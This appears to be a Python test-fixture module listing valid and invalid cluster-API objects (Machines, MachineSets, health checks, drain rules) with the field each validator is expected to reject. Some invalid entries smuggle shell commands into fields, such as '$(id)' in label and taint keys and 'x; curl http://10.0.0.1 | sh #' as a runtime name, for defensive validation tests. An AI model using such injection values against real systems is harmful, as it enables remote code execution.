"""Good and bad objects, with the field that each bad one must be refused for.

One table serves three judges: ``api.validate`` offline, the CRDs' schemas and CEL rules in process, and a real
API server.
"""

from __future__ import annotations

import copy
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml

from api.kinds import KINDS, OTHERS

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
MANIFESTS = Path(__file__).parent / "manifests"
"""Manifests of others, whose providers are not ours."""

CONFIG = {"apiVersion": "simulated.nodewright.dev/v1alpha1", "kind": "SimulatedMachineConfig"}

_TEMPLATE: dict[str, Any] = {
    "metadata": {"labels": {"pool": "a"}},
    "spec": {"versions": {"kubelet": "1.32.4"}, "providerConfig": {"value": CONFIG}},
}


def _object(kind: str, name: str, **parts: Any) -> dict[str, Any]:
    return {"apiVersion": "cluster.k8s.io/v1alpha1", "kind": kind, "metadata": {"name": name}, **parts}


_BASES: dict[str, dict[str, Any]] = {
    "cluster": _object("Cluster", "demo", spec={"clusterNetwork": {"pods": {"cidrBlocks": ["10.244.0.0/16"]}}}),
    "machine": _object("Machine", "one", spec=_TEMPLATE["spec"]),
    "set": _object("MachineSet", "set", spec={"selector": {"matchLabels": {"pool": "a"}}, "template": _TEMPLATE}),
    "deployment": _object(
        "MachineDeployment", "deployment", spec={"selector": {"matchLabels": {"pool": "a"}}, "template": _TEMPLATE}
    ),
    "class": _object("MachineClass", "class", providerSpec=CONFIG),
    "check": _object(
        "MachineHealthCheck",
        "check",
        spec={
            "selector": {"matchLabels": {"pool": "a"}},
            "unhealthyConditions": [{"type": "Ready", "status": "Unknown", "timeout": "5m"}],
        },
    ),
    "rule": _object("MachineDrainRule", "rule", spec={"drain": {"behavior": "Drain", "order": 5}}),
}

REMOVED = object()
"""As a change: take the field away."""


def changed(base: str, changes: Mapping[str, Any]) -> dict[str, Any]:
    """The base object with some fields, given by dotted paths, set to other values."""
    obj = copy.deepcopy(_BASES[base])
    for path, value in changes.items():
        *parents, last = path.split(".")
        holder = obj
        for parent in parents:
            holder = holder.setdefault(parent, {})
        if value is REMOVED:
            del holder[last]
        else:
            holder[last] = copy.deepcopy(value)
    return obj


@dataclass(frozen=True)
class Bad:
    """``offline`` and ``server``: the field that each must name; "" where that judge can't see the fault."""

    base: str
    changes: Mapping[str, Any] = field(hash=False)
    offline: str
    server: str

    @property
    def obj(self) -> dict[str, Any]:
        return changed(self.base, self.changes)


def both(base: str, path: str, value: Any) -> Bad:
    """A fault that both judges see in the field that was changed."""
    return Bad(base, {path: value}, path, path)


_ROLLING = "spec.strategy.rollingUpdate"
_BUDGETS = "spec.strategy.disruptionBudgets"
_LABELS = "spec.template.metadata.labels"
_MIN = "cluster.k8s.io/cluster-api-autoscaler-node-group-min-size"
_MAX = "cluster.k8s.io/cluster-api-autoscaler-node-group-max-size"
_CIDRS = "spec.clusterNetwork.pods.cidrBlocks"
_BOTH_CONFIGS = {"spec.providerSpec": {"value": CONFIG}}
_BOOT = "spec.template.spec.bootstrap"
_REPOSITORY = {"url": "https://packages.example/v{minor}/", "signingKey": "none"}

BAD: dict[str, Bad] = {
    "a source of nothing": Bad("machine", {"spec.bootstrap": {"source": "Tape"}}, "", "spec.bootstrap.source"),
    "two sources": Bad(
        "set",
        {_BOOT: {"packages": {"extra": ["jq"]}, "archives": {"architecture": "arm64"}}},
        f"{_BOOT}.source",
        "",
    ),
    "packages signed by nothing": Bad(
        "deployment",
        {_BOOT: {"packages": {"repository": _REPOSITORY}}},
        f"{_BOOT}.packages.repository.signingKey",
        "",
    ),
    "a repository with a password": Bad(
        "cluster",
        {"spec.bootstrap": {"proxy": {"http": "http://me:secret@proxy.example:3128"}}},
        "",
        "spec.bootstrap.proxy.http",
    ),
    "an archive without a checksum": Bad(
        "machine",
        {"spec.bootstrap": {"archives": {"runc": {"url": "https://mirror.example/runc"}}}},
        "",
        "spec.bootstrap.archives.runc.sha256",
    ),
    "a command of two kinds": Bad(
        "machine",
        {"spec.bootstrap": {"preJoinCommands": [{"argv": ["true"], "script": "true"}]}},
        "spec.bootstrap.preJoinCommands[0].script",
        "spec.bootstrap.preJoinCommands[0]",
    ),
    "a kernel setting with a blank": Bad(
        "machine",
        {"spec.bootstrap": {"sysctls": {"vm max_map_count": "1"}}},
        "spec.bootstrap.sysctls[vm max_map_count]",
        "spec.bootstrap.sysctls",
    ),
    "a registry with a scheme": Bad(
        "machine",
        {"spec.bootstrap": {"containerd": {"registries": {"https://docker.io": {}}}}},
        "spec.bootstrap.containerd.registries[https://docker.io]",
        "spec.bootstrap.containerd.registries",
    ),
    "negative replicas": both("set", "spec.replicas", -1),
    "a slip of the finger in replicas": both("set", "spec.replicas", 2_000_000_000),
    "one replica too many": both("deployment", "spec.replicas", 100_001),
    "replicas in words": both("deployment", "spec.replicas", "three"),
    "negative minReadySeconds": both("set", "spec.minReadySeconds", -1),
    "negative revisionHistoryLimit": both("deployment", "spec.revisionHistoryLimit", -1),
    "neither surge nor unavailable": Bad(
        "deployment",
        {_ROLLING: {"maxSurge": 0, "maxUnavailable": 0}},
        f"{_ROLLING}.maxUnavailable",
        f"{_ROLLING}.maxUnavailable",
    ),
    "neither surge nor unavailable in percent": Bad(
        "deployment",
        {_ROLLING: {"maxSurge": "0%", "maxUnavailable": "0%"}},
        f"{_ROLLING}.maxUnavailable",
        f"{_ROLLING}.maxUnavailable",
    ),
    "no surge, and unavailable left at its default of 0": Bad(
        "deployment", {_ROLLING: {"maxSurge": 0}}, f"{_ROLLING}.maxUnavailable", f"{_ROLLING}.maxUnavailable"
    ),
    "more unavailable than there is": both("deployment", f"{_ROLLING}.maxUnavailable", "150%"),
    "surge that is no percentage": both("deployment", f"{_ROLLING}.maxSurge", "lots"),
    "surge as text without percent": both("deployment", f"{_ROLLING}.maxSurge", "3"),
    "negative surge": both("deployment", f"{_ROLLING}.maxSurge", -2),
    "negative partition": both("deployment", f"{_ROLLING}.partition", -1),
    "a partition that is no percentage": both("deployment", f"{_ROLLING}.partition", "most"),
    "unknown inPlace": Bad("deployment", {f"{_ROLLING}.inPlace": "Maybe"}, "", f"{_ROLLING}.inPlace"),
    "a budget without nodes": Bad("deployment", {_BUDGETS: [{}]}, f"{_BUDGETS}[0].nodes", f"{_BUDGETS}[0].nodes"),
    "a budget of text": Bad(
        "deployment", {_BUDGETS: [{"nodes": "few"}]}, f"{_BUDGETS}[0].nodes", f"{_BUDGETS}[0].nodes"
    ),
    "a schedule without a duration": Bad(
        "deployment",
        {_BUDGETS: [{"nodes": 1}, {"nodes": 0, "schedule": "@daily"}]},
        f"{_BUDGETS}[1].schedule",
        f"{_BUDGETS}[1].schedule",
    ),
    "a schedule that is none": Bad(
        "deployment",
        {_BUDGETS: [{"nodes": 1, "schedule": "at night", "duration": "8h"}]},
        f"{_BUDGETS}[0].schedule",
        f"{_BUDGETS}[0].schedule",
    ),
    "a schedule that never strikes": Bad(
        "deployment",
        {_BUDGETS: [{"nodes": 1, "schedule": "0 0 30 2 *", "duration": "8h"}]},
        f"{_BUDGETS}[0].schedule",
        "",
    ),
    "a duration that is none": Bad(
        "deployment",
        {_BUDGETS: [{"nodes": 1, "schedule": "0 2 * * *", "duration": "long"}]},
        f"{_BUDGETS}[0].duration",
        f"{_BUDGETS}[0].duration",
    ),
    "unknown policy of updates in place": Bad(
        "set", {"spec.inPlaceUpdate": {"policy": "Never"}}, "", "spec.inPlaceUpdate.policy"
    ),
    "unknown strategy": Bad("deployment", {"spec.strategy": {"type": "Blue"}}, "", "spec.strategy.type"),
    "unknown deletePolicy": Bad("set", {"spec.deletePolicy": "Prettiest"}, "", "spec.deletePolicy"),
    "a rollout that must always roll back": Bad(
        "deployment",
        {"spec.minReadySeconds": 900, f"{_ROLLING}.onFailure": "Rollback"},
        "spec.progressDeadlineSeconds",
        "",
    ),
    "empty selector": both("set", "spec.selector", {}),
    "selector with empty parts": both("deployment", "spec.selector", {"matchLabels": {}, "matchExpressions": []}),
    "no selector": both("deployment", "spec.selector", REMOVED),
    "selector of other labels": Bad("set", {"spec.selector": {"matchLabels": {"pool": "b"}}}, _LABELS, _LABELS),
    "selector of an absent label": Bad("set", {"spec.selector": {"matchLabels": {"zone": "b"}}}, _LABELS, _LABELS),
    "template without labels": Bad("deployment", {"spec.template.metadata": {}}, _LABELS, _LABELS),
    "expression of other values": Bad(
        "deployment",
        {"spec.selector": {"matchExpressions": [{"key": "pool", "operator": "In", "values": ["b"]}]}},
        _LABELS,
        _LABELS,
    ),
    "expression that excludes the template": Bad(
        "set",
        {"spec.selector": {"matchExpressions": [{"key": "pool", "operator": "NotIn", "values": ["a"]}]}},
        _LABELS,
        _LABELS,
    ),
    "expression of an absent label": Bad(
        "set", {"spec.selector": {"matchExpressions": [{"key": "zone", "operator": "Exists"}]}}, _LABELS, _LABELS
    ),
    "expression that forbids a label of the template": Bad(
        "set", {"spec.selector": {"matchExpressions": [{"key": "pool", "operator": "DoesNotExist"}]}}, _LABELS, _LABELS
    ),
    "unknown operator": Bad(
        "set",
        {"spec.selector": {"matchExpressions": [{"key": "pool", "operator": "Like"}]}},
        "spec.selector.matchExpressions[0].operator",
        "spec.selector.matchExpressions[0].operator",
    ),
    "In without values": Bad(
        "set",
        {"spec.selector": {"matchExpressions": [{"key": "pool", "operator": "In"}]}},
        "spec.selector.matchExpressions[0].values",
        _LABELS,
    ),
    "MachineDeployment name too long": Bad("deployment", {"metadata.name": "a" * 40}, "metadata.name", "metadata.name"),
    "MachineSet name too long": Bad("set", {"metadata.name": "a" * 51}, "metadata.name", "metadata.name"),
    "Machine name too long": Bad("machine", {"metadata.name": "a" * 64}, "metadata.name", "metadata.name"),
    "Cluster name too long": Bad("cluster", {"metadata.name": "a" * 64}, "metadata.name", "metadata.name"),
    "name in capitals": Bad("machine", {"metadata.name": "One"}, "metadata.name", ""),
    "label value too long": Bad("set", {f"{_LABELS}.extra": "a" * 64}, f"{_LABELS}[extra]", f"{_LABELS}.extra"),
    "label key with a space": Bad("set", {f"{_LABELS}.a b": "x"}, f"{_LABELS}[a b]", _LABELS),
    "label key with a command": Bad("set", {f"{_LABELS}.b c;$(id)": "x"}, f"{_LABELS}[b c;$(id)]", _LABELS),
    "label key of the Node with a space": Bad(
        "machine", {"spec.metadata": {"labels": {"a b": "x"}}}, "spec.metadata.labels[a b]", "spec.metadata.labels"
    ),
    "annotation key with a command": Bad(
        "machine",
        {"spec.metadata": {"annotations": {"$(id)": "x"}}},
        "spec.metadata.annotations[$(id)]",
        "spec.metadata.annotations",
    ),
    "taint key with a command": Bad(
        "machine",
        {"spec.taints": [{"key": "b c;$(id)", "effect": "NoSchedule"}]},
        "spec.taints[0].key",
        "spec.taints[0].key",
    ),
    "container runtime with a command": both(
        "machine", "spec.versions.containerRuntime.name", "x; curl http://10.0.0.1 | sh #"
    ),
    "version of a container runtime with a command": Bad(
        "machine",
        {"spec.versions.containerRuntime": {"name": "containerd", "version": "$(id)"}},
        "spec.versions.containerRuntime.version",
        "spec.versions.containerRuntime.version",
    ),
    "configuration of a size that no text may have": both("machine", "spec.providerConfig", "x" * 32769),
    "kubelet that is no version": both("machine", "spec.versions.kubelet", "latest"),
    "versions without kubelet": Bad(
        "machine", {"spec.versions": {"controlPlane": "1.32.4"}}, "", "spec.versions.kubelet"
    ),
    "timeout in words": both("machine", "spec.nodeDrainTimeout", "5 minutes"),
    "negative timeout": both("machine", "spec.nodeDeletionTimeout", "-5m"),
    "taint without effect": Bad(
        "machine", {"spec.taints": [{"key": "a"}]}, "spec.taints[0].effect", "spec.taints[0].effect"
    ),
    "taint twice": Bad(
        "machine",
        {"spec.taints": [{"key": "a", "effect": "NoSchedule"}, {"key": "a", "effect": "NoSchedule", "value": "x"}]},
        "spec.taints[1]",
        "spec.taints[1]",
    ),
    "configuration in both fields": Bad("machine", _BOTH_CONFIGS, "spec.providerSpec", "spec.providerSpec"),
    "configuration of a cluster in both fields": Bad(
        "cluster", {"spec.providerConfig": "a: b", **_BOTH_CONFIGS}, "spec.providerSpec", "spec.providerSpec"
    ),
    "configuration that is a number": Bad("machine", {"spec.providerConfig": 5}, "spec.providerConfig", ""),
    "configuration that is no YAML": Bad("machine", {"spec.providerConfig": "a: [1"}, "spec.providerConfig", ""),
    "configuration value that is a number": both("machine", "spec.providerConfig.value", 5),
    "configuration value and reference": Bad(
        "machine",
        {"spec.providerConfig.valueFrom": {"machineClass": {"name": "small"}}},
        "spec.providerConfig.valueFrom",
        "",
    ),
    "configuration without value": Bad("machine", {"spec.providerConfig": CONFIG}, "spec.providerConfig.value", ""),
    "class of another namespace": Bad(
        "machine",
        {
            "metadata.namespace": "default",
            "spec.providerConfig": {"valueFrom": {"machineClass": {"name": "small", "namespace": "other"}}},
        },
        "spec.providerConfig.valueFrom.machineClass.namespace",
        "",
    ),
    "misspelt field": Bad("machine", {"spec.providerConifg": {"value": CONFIG}}, "spec.providerConifg", ""),
    "providerID in a template": Bad(
        "set", {"spec.template.spec.providerID": "sim://1"}, "spec.template.spec.providerID", ""
    ),
    "one Node name for all": Bad(
        "set", {"spec.template.spec.metadata.name": "node"}, "spec.template.spec.metadata.name", ""
    ),
    "autoscaler minimum over maximum": Bad(
        "set", {"metadata.annotations": {_MIN: "5", _MAX: "3"}}, f"metadata.annotations[{_MIN}]", ""
    ),
    "autoscaler minimum alone": Bad(
        "deployment", {"metadata.annotations": {_MIN: "5"}}, f"metadata.annotations[{_MAX}]", ""
    ),
    "autoscaler maximum in words": Bad(
        "set", {"metadata.annotations": {_MIN: "1", _MAX: "many"}}, f"metadata.annotations[{_MAX}]", ""
    ),
    "capacity that is no quantity": Bad(
        "set",
        {"metadata.annotations": {"capacity.cluster-autoscaler.kubernetes.io/memory": "4 Gigs"}},
        "metadata.annotations[capacity.cluster-autoscaler.kubernetes.io/memory]",
        "",
    ),
    "priority in words": Bad(
        "machine",
        {"metadata.annotations": {"nodewright.dev/delete-priority": "high"}},
        "metadata.annotations[nodewright.dev/delete-priority]",
        "",
    ),
    "class without configuration": Bad("class", {"providerSpec": REMOVED}, "providerSpec", "providerSpec"),
    "class with two configurations": Bad("class", {"providerConfig": CONFIG}, "providerSpec", "providerSpec"),
    "range that is no network": Bad("cluster", {_CIDRS: ["10.0.0.0/99"]}, f"{_CIDRS}[0]", ""),
    "overlapping ranges": Bad(
        "cluster", {"spec.clusterNetwork.services": {"cidrBlocks": ["10.244.9.0/24"]}}, f"{_CIDRS}[0]", ""
    ),
    "check without selector": both("check", "spec.selector", REMOVED),
    "check of everything": both("check", "spec.selector", {}),
    "range without brackets": both("check", "spec.unhealthyRange", "3-5"),
    "range that ends before it begins": Bad("check", {"spec.unhealthyRange": "[5-3]"}, "spec.unhealthyRange", ""),
    "maxUnhealthy in words": both("check", "spec.maxUnhealthy", "few"),
    "rule without behavior": both("rule", "spec.drain.behavior", REMOVED),
    "rule of an unknown behavior": both("rule", "spec.drain.behavior", "Ignore"),
    "order of pods that stay": Bad("rule", {"spec.drain.behavior": "Skip"}, "spec.drain.order", "spec.drain.order"),
    "order in words": both("rule", "spec.drain.order", "first"),
    "rule of an entry that selects nothing": Bad(
        "rule", {"spec.machines": [{}]}, "spec.machines[0].selector", "spec.machines[0].selector"
    ),
    "rule of no pods": both("rule", "spec.pods", []),
    "rule with an unknown operator": Bad(
        "rule",
        {"spec.pods": [{"namespaceSelector": {"matchExpressions": [{"key": "a", "operator": "Like"}]}}]},
        "spec.pods[0].namespaceSelector.matchExpressions[0].operator",
        "spec.pods[0].namespaceSelector.matchExpressions[0].operator",
    ),
    "stage in words": both("machine", "spec.nodeDrainForceAfter", "soon"),
    "check by what checks write": Bad(
        "check",
        {"spec.unhealthyMachineConditions": [{"type": "OwnerRemediated", "status": "False", "timeout": "1m"}]},
        "spec.unhealthyMachineConditions[0].type",
        "",
    ),
    "template of a kind that is none": Bad(
        "check",
        {"spec.remediationTemplate": {"apiVersion": "a.example.com/v1", "kind": "Reboot", "name": "reboot"}},
        "spec.remediationTemplate.kind",
        "spec.remediationTemplate.kind",
    ),
    "template whose apiVersion is a path": Bad(
        "check",
        {
            "spec.remediationTemplate": {
                "apiVersion": "cluster.k8s.io/v1alpha1/namespaces/victim/machines/m?x=",
                "kind": "RebootTemplate",
                "name": "reboot",
            }
        },
        "spec.remediationTemplate.apiVersion",
        "spec.remediationTemplate.apiVersion",
    ),
    "template without a name": Bad(
        "check",
        {"spec.remediationTemplate": {"apiVersion": "a.example.com/v1", "kind": "RebootTemplate"}},
        "spec.remediationTemplate.name",
        "",
    ),
    "condition without timeout": Bad(
        "check",
        {"spec.unhealthyConditions": [{"type": "Ready", "status": "False"}]},
        "spec.unhealthyConditions[0].timeout",
        "spec.unhealthyConditions[0].timeout",
    ),
}
"""By what is wrong."""

GOOD: dict[str, dict[str, Any]] = {
    **{f"smallest {base}": changed(base, {}) for base in _BASES},
    "percentages": changed("deployment", {_ROLLING: {"maxSurge": "25%", "maxUnavailable": "100%"}}),
    "no surge but unavailable": changed("deployment", {_ROLLING: {"maxSurge": 0, "maxUnavailable": 1}}),
    "a canary, a window and updates in place": changed(
        "deployment",
        {
            f"{_ROLLING}.partition": "90%",
            f"{_ROLLING}.inPlace": "Require",
            _BUDGETS: [
                {"nodes": "10%"},
                {"nodes": 0, "schedule": "0 8 * * mon-fri", "duration": "10h", "reasons": ["Replace"]},
                {"nodes": 2, "schedule": "@weekly", "duration": "48h"},
            ],
        },
    ),
    "a set that updates in place": changed("set", {"spec.inPlaceUpdate": {"minAvailable": 1, "maxUpdating": 0}}),
    "OnDelete": changed("deployment", {"spec.strategy": {"type": "OnDelete"}}),
    "expressions": changed(
        "deployment",
        {
            "spec.selector": {
                "matchExpressions": [
                    {"key": "pool", "operator": "In", "values": ["a", "b"]},
                    {"key": "pool", "operator": "Exists"},
                    {"key": "zone", "operator": "DoesNotExist"},
                    {"key": "zone", "operator": "NotIn", "values": ["x"]},
                ]
            }
        },
    ),
    "no configuration at all": changed("machine", {"spec.providerConfig": REMOVED}),
    "empty configuration": changed("machine", {"spec.providerConfig": {}}),
    "second generation by reference": changed(
        "machine", {"spec.providerConfig": {"valueFrom": {"machineClass": {"name": "small", "provider": "sim"}}}}
    ),
    "fields of other times": changed("machine", {"spec.somethingOlder": {"a": [1]}, "spec.roles": ["Master"]}),
    "timeouts": changed("machine", {"spec.nodeDrainTimeout": "1h30m", "spec.nodeDeletionTimeout": "0"}),
    "version with a suffix": changed("machine", {"spec.versions.kubelet": "v1.32.4+k3s1"}),
    "longest names": changed("deployment", {"metadata.name": "a" * 39}),
    "class of the first generations": changed("class", {"providerSpec": REMOVED, "providerConfig": CONFIG}),
    "autoscaler bounds": changed("set", {"metadata.annotations": {_MIN: "0", _MAX: "10"}}),
    "timestamp left null by a generator": changed("set", {"spec.template.metadata.creationTimestamp": None}),
    "a check with all limits": changed(
        "check",
        {
            "spec.maxUnhealthy": "40%",
            "spec.unhealthyRange": "[1-3]",
            "spec.remediationStrategy": {"maxInFlight": 1, "maxRetry": 3, "retryPeriod": "1m"},
        },
    ),
}
"""By what is special about them."""


def examples() -> dict[str, dict[str, Any]]:
    """Every object in ``examples/``, by file and kind."""
    found = {}
    for file in sorted([*EXAMPLES.glob("*.yaml"), *MANIFESTS.glob("*.yaml")]):
        for obj in yaml.safe_load_all(file.read_text()):
            if obj["kind"] in {**KINDS, **OTHERS}:
                found[f"{file.name} {obj['kind']}"] = obj
    return found
